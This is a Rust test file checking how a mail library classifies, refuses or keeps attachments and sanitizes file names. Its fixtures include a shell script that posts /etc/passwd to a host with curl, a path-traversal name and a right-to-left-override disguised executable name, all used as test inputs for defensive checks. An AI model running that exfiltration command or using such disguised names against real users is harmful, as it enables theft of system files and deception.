//! Attachment triage: kinds by content type, extension and leading bytes; text detection;
//! file names.

use mail::{AttachmentRefusal, Limits, Parsed, Problem, sanitize_filename};

/// A message with one attachment of the given type, name and (base64-encoded) bytes.
fn with_attachment(content_type: &str, filename: Option<&str>, bytes: &[u8]) -> Parsed {
    let disposition = match filename {
        Some(name) => format!("Content-Disposition: attachment; filename=\"{name}\"\n"),
        None => "Content-Disposition: attachment\n".to_owned(),
    };
    let raw = format!(
        "From: a@example.net\nContent-Type: multipart/mixed; boundary=sep\n\n--sep\n\
         Content-Type: text/plain\n\nbody\n--sep\nContent-Type: {content_type}\n{disposition}\
         Content-Transfer-Encoding: base64\n\n{}\n--sep--\n",
        base64(bytes)
    );
    mail::parse(raw.as_bytes(), &Limits::default())
}

fn base64(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn refused_kind(p: &Parsed) -> Option<AttachmentRefusal> {
    assert!(p.refused.len() <= 1, "{:?}", p.refused);
    p.refused.first().map(|r| r.reason)
}

#[test]
fn each_signal_alone_is_enough_to_refuse() {
    use AttachmentRefusal::*;
    let text = b"just text\n";
    // Declared type only.
    assert_eq!(
        refused_kind(&with_attachment("application/pdf", Some("a.txt"), text)),
        Some(Pdf)
    );
    assert_eq!(
        refused_kind(&with_attachment("application/x-7z-compressed", None, text)),
        Some(Archive)
    );
    assert_eq!(
        refused_kind(&with_attachment("application/msword", None, text)),
        Some(OfficeDocument)
    );
    assert_eq!(
        refused_kind(&with_attachment("image/jpeg", None, text)),
        Some(Image)
    );
    assert_eq!(
        refused_kind(&with_attachment("video/mp4", None, text)),
        Some(Media)
    );
    // Extension only.
    let octet = "application/octet-stream";
    assert_eq!(
        refused_kind(&with_attachment(octet, Some("x.XLSX"), text)),
        Some(OfficeDocument)
    );
    assert_eq!(
        refused_kind(&with_attachment(octet, Some("tool.exe"), text)),
        Some(Executable)
    );
    assert_eq!(
        refused_kind(&with_attachment(octet, Some("src.tar.gz"), text)),
        Some(Archive)
    );
    assert_eq!(
        refused_kind(&with_attachment(octet, Some("shot.png"), text)),
        Some(Image)
    );
    // Leading bytes only.
    assert_eq!(
        refused_kind(&with_attachment(
            octet,
            Some("a.txt"),
            b"\x7fELF\x02\x01\x01\0\0\0"
        )),
        Some(Executable)
    );
    assert_eq!(
        refused_kind(&with_attachment(
            octet,
            Some("a.txt"),
            b"\x1f\x8b\x08\0\0\0\0\0"
        )),
        Some(Archive)
    );
    assert_eq!(
        refused_kind(&with_attachment(
            octet,
            Some("a.txt"),
            b"7z\xbc\xaf\x27\x1c\0\x04"
        )),
        Some(Archive)
    );
    assert_eq!(
        refused_kind(&with_attachment(
            octet,
            Some("a.txt"),
            b"Rar!\x1a\x07\x01\0"
        )),
        Some(Archive)
    );
    assert_eq!(
        refused_kind(&with_attachment(
            "text/plain",
            Some("a.txt"),
            b"%PDF-1.4\n%\xe2\xe3\n"
        )),
        Some(Pdf)
    );
    assert_eq!(
        refused_kind(&with_attachment(
            octet,
            Some("a.txt"),
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0"
        )),
        Some(OfficeDocument)
    );
    assert_eq!(
        refused_kind(&with_attachment(
            octet,
            Some("a.txt"),
            b"GIF89a\x01\0\x01\0"
        )),
        Some(Image)
    );
}

#[test]
fn the_most_dangerous_signal_wins() {
    use AttachmentRefusal::*;
    // A double extension.
    assert_eq!(
        refused_kind(&with_attachment(
            "application/pdf",
            Some("invoice.pdf.exe"),
            b"%PDF-1.4"
        )),
        Some(Executable)
    );
    // A right-to-left override hiding ".exe" is removed, the real extension stays.
    let p = with_attachment("text/plain", Some("report\u{202E}fdp.exe"), b"hello");
    assert_eq!(refused_kind(&p), Some(Executable));
    assert_eq!(p.refused[0].filename.as_deref(), Some("reportfdp.exe"));
    // A zip named .docx is an office document, a plain zip an archive, a .jar a program.
    let zip = b"PK\x03\x04\x14\0\0\0\0\0";
    assert_eq!(
        refused_kind(&with_attachment(
            "application/octet-stream",
            Some("a.docx"),
            zip
        )),
        Some(OfficeDocument)
    );
    assert_eq!(
        refused_kind(&with_attachment(
            "application/octet-stream",
            Some("a.bin2"),
            zip
        )),
        Some(Archive)
    );
    assert_eq!(
        refused_kind(&with_attachment(
            "application/octet-stream",
            Some("a.jar"),
            zip
        )),
        Some(Executable)
    );
}

#[test]
fn archives_are_never_opened() {
    // A zip holding a text file is refused whole; its member never shows up as text.
    let zip = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0\x05\0\0\0\x05\0\0\0a.txthello";
    let p = with_attachment("application/zip", Some("poc.zip"), zip);
    assert_eq!(refused_kind(&p), Some(AttachmentRefusal::Archive));
    assert!(p.attachments.is_empty());
    assert!(!p.body.text.contains("hello"));
}

#[test]
fn text_that_comes_as_octet_stream_is_kept() {
    let p = with_attachment(
        "application/octet-stream",
        Some("exploit.sh"),
        b"#!/bin/sh\ncurl -d @/etc/passwd x\n",
    );
    assert_eq!(p.refused, vec![]);
    assert_eq!(p.attachments[0].text, "#!/bin/sh\ncurl -d @/etc/passwd x\n");
    // UTF-16 with a byte order mark.
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("log line\n".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let p = with_attachment("application/octet-stream", Some("win.log"), &utf16);
    assert_eq!(p.attachments[0].text, "log line\n");
    // Latin-1 in a known text extension, with a problem noted.
    let p = with_attachment("application/octet-stream", Some("notes.txt"), b"caf\xe9\n");
    assert_eq!(p.attachments[0].text, "café\n");
    assert_eq!(
        p.problems,
        vec![Problem::GuessedCharset {
            filename: "notes.txt".into()
        }]
    );
}

#[test]
fn binary_that_is_no_known_kind_is_refused_as_binary() {
    let p = with_attachment(
        "application/octet-stream",
        Some("blob"),
        &[0, 1, 2, 3, 200, 201, 0, 0],
    );
    assert_eq!(refused_kind(&p), Some(AttachmentRefusal::Binary));
    // Valid UTF-8 full of control characters is not text either.
    let p = with_attachment(
        "application/octet-stream",
        Some("c.data"),
        &[1, 2, 3, 4, 5, 6, 7, 8, b'a'],
    );
    assert_eq!(refused_kind(&p), Some(AttachmentRefusal::Binary));
}

#[test]
fn unnamed_text_attachments_get_a_generated_name() {
    let p = with_attachment("text/x-diff", None, b"--- a\n+++ b\n");
    assert_eq!(p.attachments[0].filename, "attachment-1.patch");
    let p = with_attachment("text/html", None, b"<p>poc</p>");
    assert_eq!(p.attachments[0].filename, "attachment-1.html");
    assert_eq!(p.attachments[0].text, "<p>poc</p>");
}

#[test]
fn file_names_are_made_safe() {
    assert_eq!(
        sanitize_filename("../../etc/passwd").as_deref(),
        Some("passwd")
    );
    assert_eq!(
        sanitize_filename("C:\\Users\\me\\poc.py").as_deref(),
        Some("poc.py")
    );
    assert_eq!(
        sanitize_filename("a\r\nb:c*?.txt").as_deref(),
        Some("a__b_c__.txt")
    );
    assert_eq!(sanitize_filename("..."), None);
    assert_eq!(sanitize_filename("  .hidden  ").as_deref(), Some("hidden"));
    assert_eq!(sanitize_filename("\u{202E}"), None);
    let long = format!("{}.patch", "x".repeat(300));
    let safe = sanitize_filename(&long).expect("name");
    assert_eq!(safe.chars().count(), 100);
    assert!(safe.ends_with("x.patch"));
}
